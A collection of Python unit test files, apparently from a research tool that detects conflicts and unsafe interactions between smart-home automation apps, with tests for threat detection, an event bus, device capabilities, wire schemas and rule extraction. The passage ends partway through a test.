        "Watcher": {"tv2": "tv", "lamp1": "floorLamp"},
    })
    threats = engine.detect_pair(r1, r2)
    assert not any(
        t.type is ThreatType.COVERT_TRIGGERING and t.rule_a.app_name == "Remote"
        for t in threats
    )


def test_covert_triggering_environmental():
    heater_app = '''
input "c1", "capability.contactSensor"
input "heater1", "capability.switch"
def installed() { subscribe(c1, "contact.closed", h) }
def h(evt) { heater1.on() }
'''
    temp_app = '''
input "t2", "capability.temperatureMeasurement"
input "fan2", "capability.switch"
def installed() { subscribe(t2, "temperature", h) }
def h(evt) {
    if (evt.value.toInteger() > 80) fan2.on()
}
'''
    r1 = rules_of(heater_app, "Heater")[0]
    r2 = rules_of(temp_app, "FanCtl")[0]
    engine = make_engine({
        "Heater": {"c1": "contactSensor", "heater1": "heater"},
        "FanCtl": {"t2": "temperatureSensor", "fan2": "fan"},
    })
    threats = engine.detect_pair(r1, r2)
    cts = [
        t for t in threats
        if t.type is ThreatType.COVERT_TRIGGERING and t.rule_a.app_name == "Heater"
    ]
    assert cts
    assert "temperature" in cts[0].detail


def test_self_disabling():
    ac_on = '''
input "m1", "capability.motionSensor"
input "ac1", "capability.switch"
def installed() { subscribe(m1, "motion.active", h) }
def h(evt) { ac1.on() }
'''
    energy_cut = '''
input "meter1", "capability.powerMeter"
input "ac2", "capability.switch"
def installed() { subscribe(meter1, "power", h) }
def h(evt) {
    if (evt.value.toInteger() > 2000) ac2.off()
}
'''
    r1 = rules_of(ac_on, "Cooler")[0]
    r2 = rules_of(energy_cut, "Saver")[0]
    engine = make_engine({
        "Cooler": {"m1": "motionSensor", "ac1": "airConditioner"},
        "Saver": {"meter1": "powerMeter", "ac2": "airConditioner"},
    })
    threats = engine.detect_pair(r1, r2)
    assert any(t.type is ThreatType.SELF_DISABLING for t in threats)


def test_loop_triggering():
    lights_on_dark = '''
input "lux1", "capability.illuminanceMeasurement"
input "lights1", "capability.switch"
def installed() { subscribe(lux1, "illuminance", h) }
def h(evt) {
    if (evt.value.toInteger() < 30) lights1.on()
}
'''
    lights_off_bright = '''
input "lux2", "capability.illuminanceMeasurement"
input "lights2", "capability.switch"
def installed() { subscribe(lux2, "illuminance", h) }
def h(evt) {
    if (evt.value.toInteger() > 50) lights2.off()
}
'''
    r1 = rules_of(lights_on_dark, "DarkOn")[0]
    r2 = rules_of(lights_off_bright, "BrightOff")[0]
    engine = make_engine({
        "DarkOn": {"lux1": "illuminanceSensor", "lights1": "light"},
        "BrightOff": {"lux2": "illuminanceSensor", "lights2": "light"},
    })
    threats = engine.detect_pair(r1, r2)
    assert any(t.type is ThreatType.LOOP_TRIGGERING for t in threats)


# ----------------------------------------------------------------------
# Enabling / Disabling Condition

LAMP_GUARD = '''
input "lamp1", "capability.switch"
input "motion1", "capability.motionSensor"
input "alarm1", "capability.alarm"
def installed() { subscribe(motion1, "motion.active", h) }
def h(evt) {
    if (lamp1.currentSwitch == "on") alarm1.both()
}
'''

LAMP_OFF = '''
input "lamp2", "capability.switch"
def installed() { subscribe(lamp2, "switch.on", h) }
def h(evt) { runIn(300, off1) }
def off1() { lamp2.off() }
'''


def test_disabling_condition():
    r_guard = rules_of(LAMP_GUARD, "Guard")[0]
    r_off = rules_of(LAMP_OFF, "Saver")[0]
    engine = make_engine({
        "Guard": {"lamp1": "floorLamp", "motion1": "motionSensor",
                  "alarm1": "siren"},
        "Saver": {"lamp2": "floorLamp"},
    })
    threats = engine.detect_pair(r_off, r_guard)
    dcs = [t for t in threats if t.type is ThreatType.DISABLING_CONDITION]
    assert dcs
    assert dcs[0].rule_a.app_name == "Saver"


def test_enabling_condition():
    lamp_on = LAMP_OFF.replace("lamp2.off()", "lamp2.on()")
    r_guard = rules_of(LAMP_GUARD, "Guard")[0]
    r_on = rules_of(lamp_on, "Brighten")[0]
    engine = make_engine({
        "Guard": {"lamp1": "floorLamp", "motion1": "motionSensor",
                  "alarm1": "siren"},
        "Brighten": {"lamp2": "floorLamp"},
    })
    threats = engine.detect_pair(r_on, r_guard)
    assert any(t.type is ThreatType.ENABLING_CONDITION for t in threats)


def test_condition_interference_via_location_mode():
    mode_setter = '''
input "p1", "capability.presenceSensor"
def installed() { subscribe(p1, "presence.not present", h) }
def h(evt) { setLocationMode("Away") }
'''
    mode_user = '''
input "c1", "capability.contactSensor"
input "siren1", "capability.alarm"
def installed() { subscribe(c1, "contact.open", h) }
def h(evt) {
    if (location.mode == "Away") siren1.siren()
}
'''
    r1 = rules_of(mode_setter, "Setter")[0]
    r2 = rules_of(mode_user, "Alarm")[0]
    engine = make_engine({
        "Setter": {"p1": "presenceSensor"},
        "Alarm": {"c1": "contactSensor", "siren1": "siren"},
    })
    threats = engine.detect_pair(r1, r2)
    assert any(t.type is ThreatType.ENABLING_CONDITION for t in threats)


def test_setpoint_environmental_effect():
    setpoint_app = '''
input "m1", "capability.motionSensor"
input "thermostat1", "capability.thermostat"
def installed() { subscribe(m1, "motion.active", h) }
def h(evt) { thermostat1.setHeatingSetpoint(85) }
'''
    checker_app = '''
input "c1", "capability.contactSensor"
input "t1", "capability.temperatureMeasurement"
input "fan1", "capability.switch"
def installed() { subscribe(c1, "contact.open", h) }
def h(evt) {
    if (t1.currentTemperature > 80) fan1.on()
}
'''
    r1 = rules_of(setpoint_app, "Warmer")[0]
    r2 = rules_of(checker_app, "Venter")[0]
    engine = make_engine({
        "Warmer": {"m1": "motionSensor", "thermostat1": "thermostat"},
        "Venter": {"c1": "contactSensor", "t1": "temperatureSensor",
                   "fan1": "fan"},
    })
    threats = engine.detect_pair(r1, r2)
    ecs = [t for t in threats if t.type is ThreatType.ENABLING_CONDITION]
    assert ecs  # setpoint 85 drives temp >= 85, enabling `> 80`


# ----------------------------------------------------------------------
# Analysis helpers

def test_actions_contradict_on_off():
    r1 = rules_of(LIGHT_ON, "A")[0]
    r2 = rules_of(LIGHT_OFF, "B")[0]
    assert actions_contradict(r1, r2)
    assert not actions_contradict(r1, r1)


def test_command_target():
    r1 = rules_of(LIGHT_ON, "A")[0]
    assert command_target(r1.action) == ("switch", "on")


def test_trigger_value_constraints_extracts_bounds():
    source = '''
input "t1", "capability.temperatureMeasurement"
input "sw", "capability.switch"
def installed() { subscribe(t1, "temperature", h) }
def h(evt) {
    if (evt.value.toInteger() > 80) sw.on()
}
'''
    rule = rules_of(source, "X")[0]
    bounds = trigger_value_constraints(rule.trigger)
    assert (">", 80) in bounds


def test_condition_device_attrs_resolves_locals():
    rule = rules_of(LAMP_GUARD, "G")[0]
    attrs = condition_device_attrs(rule)
    assert any(a.attribute == "switch" for a in attrs)


# ----------------------------------------------------------------------
# Chains

def test_chain_detection():
    switch_mode = '''
input "sw1", "capability.switch"
def installed() { subscribe(sw1, "switch.on", h) }
def h(evt) { setLocationMode("Home") }
'''
    mode_unlock = '''
input "lock1", "capability.lock"
def installed() { subscribe(location, "mode", h) }
def h(evt) {
    if (evt.value == "Home") lock1.unlock()
}
'''
    motion_switch = '''
input "m1", "capability.motionSensor"
input "sw2", "capability.switch"
def installed() { subscribe(m1, "motion.active", h) }
def h(evt) { sw2.on() }
'''
    hints = {
        "SwitchChangesMode": {"sw1": "switch"},
        "MakeItSo": {"lock1": "doorLock"},
        "CurlingIron": {"m1": "motionSensor", "sw2": "switch"},
    }
    engine = make_engine(hints)
    r_mode = rules_of(switch_mode, "SwitchChangesMode")[0]
    r_unlock = rules_of(mode_unlock, "MakeItSo")[0]
    r_motion = rules_of(motion_switch, "CurlingIron")[0]
    threats = []
    threats += engine.detect_pair(r_motion, r_mode)
    threats += engine.detect_pair(r_mode, r_unlock)
    cts = [t for t in threats if t.type is ThreatType.COVERT_TRIGGERING]
    assert len(cts) >= 2
    chains = find_chains(cts, AllowedList())
    assert chains
    chain = chains[0]
    assert chain.type is ThreatType.CHAINED
    apps = [rule.app_name for rule in chain.chain]
    assert apps == ["CurlingIron", "SwitchChangesMode", "MakeItSo"]


def test_chain_uses_allowed_list():
    # Only one new CT edge; the other comes from previously allowed pairs.
    switch_mode = '''
input "sw1", "capability.switch"
def installed() { subscribe(sw1, "switch.on", h) }
def h(evt) { setLocationMode("Home") }
'''
    mode_unlock = '''
input "lock1", "capability.lock"
def installed() { subscribe(location, "mode", h) }
def h(evt) {
    if (evt.value == "Home") lock1.unlock()
}
'''
    motion_switch = '''
input "m1", "capability.motionSensor"
input "sw2", "capability.switch"
def installed() { subscribe(m1, "motion.active", h) }
def h(evt) { sw2.on() }
'''
    hints = {
        "A": {"sw1": "switch"},
        "B": {"lock1": "doorLock"},
        "C": {"m1": "motionSensor", "sw2": "switch"},
    }
    engine = make_engine(hints)
    r_mode = rules_of(switch_mode, "A")[0]
    r_unlock = rules_of(mode_unlock, "B")[0]
    r_motion = rules_of(motion_switch, "C")[0]
    allowed = AllowedList()
    allowed.add_all(engine.detect_pair(r_mode, r_unlock))
    new_threats = engine.detect_pair(r_motion, r_mode)
    chains = find_chains(new_threats, allowed)
    assert chains


def test_detect_rulesets_includes_intra_app():
    source = '''
input "lux1", "capability.illuminanceMeasurement"
input "lights1", "capability.switch"
def installed() { subscribe(lux1, "illuminance", h) }
def h(evt) {
    def l = evt.value.toInteger()
    if (l < 30) {
        lights1.on()
    } else if (l > 50) {
        lights1.off()
    }
}
'''
    ruleset = extract_rules(source, "LightUpTheNight")
    engine = make_engine({
        "LightUpTheNight": {"lux1": "illuminanceSensor", "lights1": "light"},
    })
    report = engine.detect_rulesets(ruleset, [])
    assert any(t.type is ThreatType.LOOP_TRIGGERING for t in report.threats)


def test_solver_result_reuse():
    r1 = rules_of(LIGHT_ON, "OnApp")[0]
    r2 = rules_of(LIGHT_OFF, "OffApp")[0]
    engine = make_engine({
        "OnApp": {"contact1": "contactSensor", "light1": "light"},
        "OffApp": {"contact2": "contactSensor", "light2": "light"},
    })
    engine.detect_pair(r1, r2)
    calls_first = engine.stats.solver_calls
    engine.detect_pair(r1, r2)
    assert engine.stats.cache_hits > 0
    assert engine.stats.solver_calls == calls_first  # everything cached


def test_threat_report_grouping():
    r1 = rules_of(LIGHT_ON, "OnApp")[0]
    r2 = rules_of(LIGHT_OFF, "OffApp")[0]
    engine = make_engine({
        "OnApp": {"contact1": "contactSensor", "light1": "light"},
        "OffApp": {"contact2": "contactSensor", "light2": "light"},
    })
    ruleset = extract_rules(LIGHT_ON, "OnApp")
    other = extract_rules(LIGHT_OFF, "OffApp")
    report = engine.detect_rulesets(ruleset, [other])
    grouped = report.by_type()
    assert ThreatType.ACTUATOR_RACE in grouped
    assert report.count(ThreatType.ACTUATOR_RACE) >= 1


def test_threat_pattern_strings():
    assert "A1 = ¬A2" in ThreatType.ACTUATOR_RACE.pattern
    assert ThreatType.COVERT_TRIGGERING.category == "Trigger-Interference"
    assert ThreatType.ENABLING_CONDITION.category == "Condition-Interference"
    assert ThreatType.GOAL_CONFLICT.category == "Action-Interference"


def test_notification_actions_never_interfere():
    notify = '''
input "c1", "capability.contactSensor"
def installed() { subscribe(c1, "contact.open", h) }
def h(evt) { sendPush("door opened") }
'''
    r1 = rules_of(notify, "N1")[0]
    r2 = rules_of(LIGHT_OFF, "OffApp")[0]
    engine = make_engine({
        "N1": {"c1": "contactSensor"},
        "OffApp": {"contact2": "contactSensor", "light2": "light"},
    })
    threats = engine.detect_pair(r1, r2)
    assert threats == []
