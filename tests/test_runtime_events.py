"""Direct unit tests for the runtime event bus (runtime/events.py).

Pins the ordering contract — handlers in subscription order, taps in
registration order — and the mid-publish mutation semantics: a
``unsubscribe_owner`` (or ``subscribe``) issued from inside a handler
or tap affects later publishes only; the in-flight event is delivered
to the snapshot taken at publish time.
"""

from __future__ import annotations

from repro.runtime.events import Event, EventBus


def _event(subject="dev-1", name="switch", value="on", ts=1.0):
    return Event(subject=subject, name=name, value=value, timestamp=ts)


def test_publish_returns_handlers_in_subscription_order():
    bus = EventBus()
    calls: list[str] = []
    for tag in ("a", "b", "c", "d"):
        bus.subscribe(
            "dev-1", "switch",
            (lambda t: lambda e: calls.append(t))(tag), owner=tag,
        )
    # An unrelated subscription must not perturb ordering.
    bus.subscribe("dev-2", "motion", lambda e: calls.append("x"), owner="x")
    for handler in bus.publish(_event()):
        handler(None)
    assert calls == ["a", "b", "c", "d"]


def test_value_filter_and_subject_matching():
    bus = EventBus()
    hits: list[str] = []
    bus.subscribe("dev-1", "switch", lambda e: hits.append("any"), "o1")
    bus.subscribe("dev-1", "switch", lambda e: hits.append("on-only"),
                  "o2", value_filter="on")
    bus.subscribe("dev-1", "level", lambda e: hits.append("level"), "o3")

    for handler in bus.publish(_event(value="off")):
        handler(None)
    assert hits == ["any"]
    hits.clear()
    for handler in bus.publish(_event(value="on")):
        handler(None)
    assert hits == ["any", "on-only"]


def test_history_records_every_event():
    bus = EventBus()
    first, second = _event(ts=1.0), _event(name="level", value=50, ts=2.0)
    bus.publish(first)
    bus.publish(second)
    assert bus.history == [first, second]


def test_unsubscribe_owner_removes_only_that_owner():
    bus = EventBus()
    bus.subscribe("dev-1", "switch", lambda e: None, "keep")
    bus.subscribe("dev-1", "switch", lambda e: None, "drop")
    bus.subscribe("dev-1", "level", lambda e: None, "drop")
    bus.unsubscribe_owner("drop")
    assert bus.subscriptions_of("drop") == []
    assert bus.subscriptions_of("keep") == [("dev-1", "switch")]
    assert len(bus.publish(_event())) == 1


def test_unsubscribe_owner_mid_publish_delivers_inflight_event():
    bus = EventBus()
    calls: list[str] = []

    def first(event):
        calls.append("first")
        bus.unsubscribe_owner("second")  # mutate while publish snapshot lives

    bus.subscribe("dev-1", "switch", first, "first")
    bus.subscribe("dev-1", "switch", lambda e: calls.append("second"),
                  "second")

    for handler in bus.publish(_event()):
        handler(_event())
    # Snapshot semantics: "second" still saw the in-flight event ...
    assert calls == ["first", "second"]
    calls.clear()
    # ... but is gone for every later publish.
    for handler in bus.publish(_event()):
        handler(_event())
    assert calls == ["first"]


def test_subscribe_mid_publish_affects_later_publishes_only():
    bus = EventBus()
    calls: list[str] = []

    def grower(event):
        calls.append("grower")
        bus.subscribe("dev-1", "switch",
                      lambda e: calls.append("late"), "late")

    bus.subscribe("dev-1", "switch", grower, "grower")
    for handler in bus.publish(_event()):
        handler(_event())
    assert calls == ["grower"]  # the new subscription missed this event
    calls.clear()
    for handler in bus.publish(_event()):
        handler(_event())
    assert calls == ["grower", "late"]


def test_taps_see_every_event_in_registration_order():
    bus = EventBus()
    seen: list[tuple[str, str]] = []
    bus.add_tap(lambda e: seen.append(("t1", e.name)), owner="mon")
    bus.add_tap(lambda e: seen.append(("t2", e.name)), owner="mon")
    bus.subscribe("dev-1", "switch", lambda e: None, "app")

    bus.publish(_event(name="switch"))
    bus.publish(_event(subject="dev-2", name="motion"))  # no subscriber
    assert seen == [("t1", "switch"), ("t2", "switch"),
                    ("t1", "motion"), ("t2", "motion")]


def test_unsubscribe_owner_removes_taps_snapshot_safe():
    bus = EventBus()
    seen: list[str] = []

    def tap_one(event):
        seen.append("one")
        bus.unsubscribe_owner("mon")  # removes BOTH taps for later events

    bus.add_tap(tap_one, owner="mon")
    bus.add_tap(lambda e: seen.append("two"), owner="mon")

    bus.publish(_event())
    assert seen == ["one", "two"]  # snapshot: tap two still ran
    bus.publish(_event())
    assert seen == ["one", "two"]  # both gone now
