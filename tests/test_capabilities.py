"""Unit tests for the capability registry, device types and effects."""

import pytest

from repro.capabilities import (
    CAPABILITIES,
    CHANNELS,
    DEVICE_TYPES,
    Device,
    Effect,
    capability,
    channel_for_attribute,
    command_count,
    device_type,
    device_types_with_capability,
    effects_of_command,
    find_command,
    is_sink_command,
    make_device_id,
    opposite_effects,
)
from repro.capabilities.effects import goal_relevant_device_types


def test_paper_counts():
    # Paper Section V-B: 126 device control commands, 104 capabilities.
    assert len(CAPABILITIES) == 104
    assert command_count() == 126


def test_capability_lookup_accepts_both_forms():
    assert capability("switch") is capability("capability.switch")


def test_unknown_capability_raises():
    with pytest.raises(KeyError):
        capability("capability.nonexistent")


def test_switch_capability_shape():
    sw = capability("switch")
    assert set(sw.commands) == {"on", "off"}
    assert sw.attributes["switch"].values == ("on", "off")
    assert sw.commands["on"].target_value("switch") == "on"
    assert sw.commands["off"].target_value("switch") == "off"


def test_lock_capability_shape():
    lock = capability("lock")
    assert lock.commands["lock"].target_value("lock") == "locked"
    assert lock.commands["unlock"].target_value("lock") == "unlocked"


def test_parameterized_command_has_no_static_target():
    level = capability("switchLevel")
    spec = level.commands["setLevel"]
    assert spec.target_value("level") is None
    assert spec.params == ("level",)


def test_find_command_with_hint():
    spec = find_command("open", "valve")
    assert spec.capability == "valve"
    assert spec.target_value("valve") == "open"


def test_find_command_without_hint():
    assert find_command("beep").capability == "tone"
    assert find_command("noSuchCommand") is None


def test_is_sink_command():
    assert is_sink_command("on")
    assert is_sink_command("setHeatingSetpoint")
    assert not is_sink_command("definitelyNotACommand")


def test_every_command_sets_known_attributes():
    for cap in CAPABILITIES.values():
        for command in cap.commands.values():
            for attr, _value in command.sets:
                assert attr in cap.attributes, (cap.name, command.name, attr)


def test_enum_command_targets_are_valid_values():
    for cap in CAPABILITIES.values():
        for command in cap.commands.values():
            for attr, value in command.sets:
                spec = cap.attributes[attr]
                if spec.kind == "enum" and value is not None:
                    assert value in spec.values, (cap.name, command.name, value)


# ----------------------------------------------------------------------
# Device types


def test_device_type_lookup():
    heater = device_type("heater")
    assert heater.has_capability("switch")
    assert heater.has_capability("capability.switch")
    with pytest.raises(KeyError):
        device_type("hoverboard")


def test_device_types_with_capability_switch():
    names = {d.name for d in device_types_with_capability("capability.switch")}
    assert {"light", "heater", "airConditioner", "tv", "windowOpener"} <= names
    assert "motionSensor" not in names


def test_device_type_merged_attributes():
    multi = device_type("multipurposeSensor")
    attrs = multi.attributes()
    assert "contact" in attrs
    assert "temperature" in attrs


def test_device_type_commands():
    tv = device_type("tv")
    assert {"on", "off", "setVolume"} <= tv.commands()


def test_virtual_types_have_no_effects():
    assert device_type("locationMode").virtual
    assert not device_type("locationMode").effects


def test_make_device_id_deterministic_with_seed():
    assert make_device_id("tv1") == make_device_id("tv1")
    assert make_device_id("tv1") != make_device_id("tv2")
    assert len(make_device_id("tv1").replace("-", "")) == 32  # 128 bits


def test_make_device_id_random_unique():
    assert make_device_id() != make_device_id()


def test_device_instance_defaults():
    device = Device(make_device_id("w"), "Window opener", "windowOpener")
    assert device.current_value("switch") == "off"
    assert device.supports_command("on")
    assert not device.supports_command("lock")


def test_device_unknown_attribute_raises():
    device = Device(make_device_id("w"), "Window opener", "windowOpener")
    with pytest.raises(KeyError):
        device.current_value("temperature")


# ----------------------------------------------------------------------
# Channels


def test_channel_for_attribute():
    assert channel_for_attribute("temperature").name == "temperature"
    assert channel_for_attribute("illuminance").name == "illuminance"
    assert channel_for_attribute("humidity").name == "humidity"
    assert channel_for_attribute("switch") is None


def test_channel_for_attribute_with_capability():
    channel = channel_for_attribute("temperature", "temperatureMeasurement")
    assert channel.name == "temperature"


def test_channels_have_sane_bounds():
    for channel in CHANNELS.values():
        assert channel.low < channel.high


# ----------------------------------------------------------------------
# Effects (M_GC)


def test_heater_on_increases_temperature():
    effects = effects_of_command("heater", "on")
    assert effects["temperature"] is Effect.INCREASE
    assert effects["power"] is Effect.INCREASE


def test_heater_off_decreases_temperature():
    assert effects_of_command("heater", "off")["temperature"] is Effect.DECREASE


def test_paper_goal_conflict_heater_vs_window():
    # Section III-A: heater on vs. window open conflict on temperature.
    assert opposite_effects("heater", "on", "windowOpener", "on") == ["temperature"]


def test_no_conflict_between_unrelated_commands():
    assert opposite_effects("doorLock", "lock", "light", "on") == []


def test_same_direction_is_not_conflict():
    assert "temperature" not in opposite_effects("heater", "on", "oven", "on")


def test_effect_opposite():
    assert Effect.INCREASE.opposite is Effect.DECREASE
    assert Effect.IRRELEVANT.opposite is Effect.IRRELEVANT


def test_goal_relevant_excludes_virtual():
    relevant = goal_relevant_device_types()
    assert "locationMode" not in relevant
    assert "heater" in relevant


def test_light_vs_curtain_illuminance_conflict():
    assert "illuminance" in opposite_effects("light", "on", "curtain", "off")
