"""Wire-schema contract tests (DESIGN.md §11).

Every request/response dataclass must JSON-round-trip loss-free with
its schema version stamped, decode strictly (unknown fields, missing
fields and version mismatches are errors, never guesses), and match
the committed ``schema_manifest.json`` — the schema-stability gate CI
runs via ``make schema-check``.
"""

import dataclasses
import json

import pytest

from repro.service import (
    WIRE_SCHEMA_VERSION,
    AuditRequest,
    DecisionRequest,
    DetectionStatsRecord,
    InstallRequest,
    InstallSession,
    InvalidRequestError,
    MonitorEventRequest,
    ObservationRecord,
    SchemaMismatchError,
    ServerStatusRecord,
    ServiceError,
    ThreatRecord,
    ThreatReport,
    UnknownHomeError,
    decode_wire,
)
from repro.service.errors import ERROR_CODES
from repro.service.schemas import (
    WIRE_MODELS,
    check_manifest,
    manifest_path,
    schema_manifest,
)


def sample_record():
    return ThreatRecord(
        type="AR",
        category="Action-Interference",
        rule_a="A/R1",
        rule_b="B/R1",
        apps=("A", "B"),
        detail="opposite commands race on the same actuator",
        witness=(("temperature", 31), ("mode", "Home")),
        chain=("A/R1", "C/R2", "B/R1"),
        description="[AR] A and B race",
    )


def sample_report():
    return ThreatReport(
        home_id="h1",
        app_name="ColdDefender",
        rules=("when x then y",),
        threats=(sample_record(),),
        chains=(),
    )


SAMPLES = [
    InstallRequest(
        home_id="h1",
        app_name="ComfortTV",
        devices={"tv1": "Living-room TV"},
        values={"threshold1": 30, "weather": "rainy"},
    ),
    InstallRequest(home_id="h1", app_name="Custom", source="def x() {}"),
    AuditRequest(home_id="h1"),
    AuditRequest(home_id="h1", apps=("ComfortTV", "ColdDefender")),
    DecisionRequest(home_id="h1", session_id="h1/s000001", decision="keep"),
    sample_record(),
    sample_report(),
    InstallSession(
        session_id="h1/s000001",
        home_id="h1",
        app_name="ColdDefender",
        status="pending",
        report=sample_report(),
    ),
    InstallSession(
        session_id="h1/s000002",
        home_id="h1",
        app_name="ColdDefender",
        status="decided",
        report=sample_report(),
        decision="delete",
        decided_by="auto-deny",
    ),
    MonitorEventRequest(
        home_id="h1",
        events=(
            ("d1", "switch", "on", 10.0),
            ("d2", "power", "120.5", 11.5),
        ),
        batch_id="b-001",
    ),
    ObservationRecord(
        key="0123456789abcdef",
        home_id="h1",
        rule="confirm:AR:A/R1->B/R1",
        outcome="confirmed",
        subject="d1",
        threat_key="AR:A/R1->B/R1",
        detail="witness sequence observed: A/R1 -> B/R1 (AR)",
        timestamp=11.5,
        window_seconds=1.5,
    ),
    DetectionStatsRecord(
        home_id="h1",
        solver_calls=12,
        cache_hits=3,
        shared_cache_hits=2,
        shared_cache_publishes=7,
        pairs_examined=28,
        prescreen_pruned_pairs=13,
        planned_pairs=15,
        monitor_events=42,
        monitor_observations=3,
        threats_confirmed=1,
        threats_contradicted=1,
        anomalies_flagged=1,
    ),
    ServerStatusRecord(
        state="serving",
        homes=3,
        requests_total=250,
        requests_inflight=4,
        quota_rejections=17,
        admission_rejections=2,
        drain_rejections=0,
        errors_total=19,
        internal_errors=0,
        phase_seconds={"parse": 0.012, "execute": 4.5},
        phase_counts={"parse": 250, "execute": 231},
        tenants={"h1": {"requests": 100, "completed": 98}},
        monitor_events=100000,
        monitor_observations=17,
    ),
]


@pytest.mark.parametrize(
    "obj", SAMPLES, ids=[type(s).__name__ + str(i) for i, s in enumerate(SAMPLES)]
)
def test_json_round_trip_is_loss_free(obj):
    encoded = obj.to_json()
    # The version stamp is on every record (nested ones included).
    assert encoded["schema"] == WIRE_SCHEMA_VERSION
    assert encoded["kind"] == type(obj).kind
    # Through real JSON text, not just dict identity.
    decoded = type(obj).from_json(json.loads(json.dumps(encoded)))
    assert decoded == obj
    # And via the kind-dispatched generic decoder.
    assert decode_wire(json.loads(json.dumps(encoded))) == obj


def test_wire_objects_are_frozen():
    request = SAMPLES[0]
    with pytest.raises(dataclasses.FrozenInstanceError):
        request.app_name = "other"


def test_decode_rejects_wrong_schema_version():
    encoded = SAMPLES[0].to_json()
    encoded["schema"] = WIRE_SCHEMA_VERSION + 1
    with pytest.raises(SchemaMismatchError):
        InstallRequest.from_json(encoded)


def test_decode_rejects_unknown_fields():
    encoded = SAMPLES[0].to_json()
    encoded["surprise"] = True
    with pytest.raises(SchemaMismatchError, match="unknown field"):
        InstallRequest.from_json(encoded)


def test_decode_rejects_wrong_kind_and_shapes():
    with pytest.raises(SchemaMismatchError):
        InstallRequest.from_json(AuditRequest(home_id="h").to_json())
    with pytest.raises(SchemaMismatchError):
        InstallRequest.from_json("not an object")
    with pytest.raises(SchemaMismatchError):
        decode_wire({"kind": "NoSuchModel", "schema": WIRE_SCHEMA_VERSION})
    # Even an unhashable kind value stays inside the taxonomy.
    with pytest.raises(SchemaMismatchError, match="malformed wire kind"):
        decode_wire({"kind": ["InstallRequest"],
                     "schema": WIRE_SCHEMA_VERSION})
    bad = SAMPLES[0].to_json()
    del bad["home_id"]
    with pytest.raises(SchemaMismatchError):
        InstallRequest.from_json(bad)


def test_invalid_field_values_fail_at_construction():
    with pytest.raises(InvalidRequestError):
        DecisionRequest(home_id="h", session_id="s", decision="maybe")
    with pytest.raises(InvalidRequestError):
        InstallRequest(home_id="", app_name="A")
    # A bare string would iterate into characters and audit nothing.
    with pytest.raises(InvalidRequestError, match="bare string"):
        AuditRequest(home_id="h", apps="Heater")
    with pytest.raises(InvalidRequestError):
        InstallSession(
            session_id="s", home_id="h", app_name="A",
            status="undetermined", report=sample_report(),
        )
    with pytest.raises(InvalidRequestError):
        ServerStatusRecord(state="rebooting")
    # Counter dicts decode strictly: bools are not counts.
    bad = ServerStatusRecord(state="serving").to_json()
    bad["phase_counts"] = {"parse": True}
    with pytest.raises(SchemaMismatchError):
        ServerStatusRecord.from_json(bad)


def test_service_error_taxonomy_round_trips():
    error = UnknownHomeError("no home 'h9'", home_id="h9")
    encoded = json.loads(json.dumps(error.to_json()))
    assert encoded["code"] == "unknown-home"
    assert encoded["schema"] == WIRE_SCHEMA_VERSION
    decoded = decode_wire(encoded)
    assert type(decoded) is UnknownHomeError
    assert decoded.message == error.message
    assert decoded.details == {"home_id": "h9"}
    # Unknown codes (a future taxonomy member) degrade to the base
    # class — with the transported code preserved for dispatch.
    encoded["code"] = "code-from-the-future"
    future = ServiceError.from_json(encoded)
    assert type(future) is ServiceError
    assert future.code == "code-from-the-future"
    # Wire-controlled details must not collide with constructor
    # arguments (regression: **details crashed on a 'message' key).
    hostile = UnknownHomeError("x").to_json()
    hostile["details"] = {"message": "shadow", "home_id": "h9"}
    decoded_hostile = ServiceError.from_json(hostile)
    assert decoded_hostile.message == "x"
    assert decoded_hostile.details == {"message": "shadow", "home_id": "h9"}
    # Every code in the taxonomy is stable and distinct.
    assert len(ERROR_CODES) == len(
        {cls.code for cls in ERROR_CODES.values()}
    )


def test_schema_manifest_matches_committed_file():
    """The schema-stability gate: any field change without a version
    bump + manifest regeneration fails here (and in CI via
    ``make schema-check``)."""
    findings = check_manifest()
    assert not findings, (
        "wire schema drifted from src/repro/service/schema_manifest.json:\n"
        + "\n".join(findings)
        + "\nIf the change is deliberate, bump WIRE_SCHEMA_VERSION and run"
        " `python -m repro.service.schemas --write-manifest`."
    )
    committed = json.loads(manifest_path().read_text(encoding="utf-8"))
    assert committed == schema_manifest()


def test_manifest_covers_every_model_and_error():
    manifest = schema_manifest()
    assert set(manifest["models"]) == set(WIRE_MODELS)
    assert manifest["errors"] == sorted(ERROR_CODES)
    assert manifest["schema"] == WIRE_SCHEMA_VERSION
