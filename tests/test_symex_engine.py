"""Unit tests for the symbolic executor (rule extraction)."""

import pytest

from repro.rules import extract_rules
from repro.rules.extractor import ExtractionError, RuleExtractor
from repro.symex.values import (
    BinExpr,
    Const,
    DeviceAttr,
    DeviceRef,
    EventValue,
    LocalVar,
    LocationAttr,
    UserInput,
)


def app(body: str, inputs: str = "") -> str:
    return f'''
definition(name: "TestApp")
{inputs}
{body}
'''


SWITCH_INPUTS = '''
input "sw1", "capability.switch"
input "sw2", "capability.switch"
'''


def test_simple_subscription_rule():
    source = app('''
def installed() { subscribe(sw1, "switch", handler) }
def handler(evt) { sw2.on() }
''', SWITCH_INPUTS)
    rules = extract_rules(source).rules
    assert len(rules) == 1
    rule = rules[0]
    assert rule.trigger.subject == "sw1"
    assert rule.trigger.attribute == "switch"
    assert rule.trigger.constraint is None  # plain state change
    assert rule.action.subject == "sw2"
    assert rule.action.command == "on"


def test_dotted_subscription_becomes_trigger_constraint():
    source = app('''
def installed() { subscribe(sw1, "switch.on", handler) }
def handler(evt) { sw2.off() }
''', SWITCH_INPUTS)
    rule = extract_rules(source).rules[0]
    constraint = rule.trigger.constraint
    assert isinstance(constraint, BinExpr)
    assert isinstance(constraint.left, EventValue)
    assert constraint.right == Const("on")


def test_event_value_comparison_goes_to_trigger():
    source = app('''
def installed() { subscribe(sw1, "switch", handler) }
def handler(evt) {
    if (evt.value == "off") sw2.on()
}
''', SWITCH_INPUTS)
    rule = extract_rules(source).rules[0]
    assert rule.trigger.constraint is not None
    assert rule.condition.predicate_constraints == ()


def test_branches_produce_separate_rules():
    source = app('''
def installed() { subscribe(sw1, "switch", handler) }
def handler(evt) {
    if (evt.value == "on") {
        sw2.on()
    } else {
        sw2.off()
    }
}
''', SWITCH_INPUTS)
    rules = extract_rules(source).rules
    assert len(rules) == 2
    commands = {rule.action.command for rule in rules}
    assert commands == {"on", "off"}


def test_nested_conditions_accumulate():
    source = app('''
input "tSensor", "capability.temperatureMeasurement"
input "low", "number"
input "high", "number"
def installed() { subscribe(tSensor, "temperature", handler) }
def handler(evt) {
    def t = tSensor.currentValue("temperature")
    if (t > low) {
        if (t < high) {
            sw1.on()
        }
    }
}
''', SWITCH_INPUTS)
    rule = extract_rules(source).rules[0]
